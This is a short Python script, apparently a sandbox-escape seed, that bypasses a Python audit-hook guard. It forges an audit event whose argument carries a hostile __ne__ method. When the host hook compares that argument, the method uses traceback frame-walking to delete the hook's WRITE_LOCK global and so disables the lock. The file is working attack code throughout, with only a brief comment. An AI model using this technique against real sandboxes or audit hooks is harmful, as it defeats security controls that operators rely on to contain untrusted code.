# From the audit-hook seed: forge an audit event whose argument has a hostile
# __ne__; the host hook compares it, and __ne__ deletes the hook's lock flag.
import sys


def strike(self, other):
    try:
        raise Exception
    except Exception:
        del sys.exc_info()[2].tb_frame.f_back.f_globals["WRITE_LOCK"]
    return True


evil = type("Evil", (object,), {"__ne__": strike})()
sys.audit("open", None, evil)
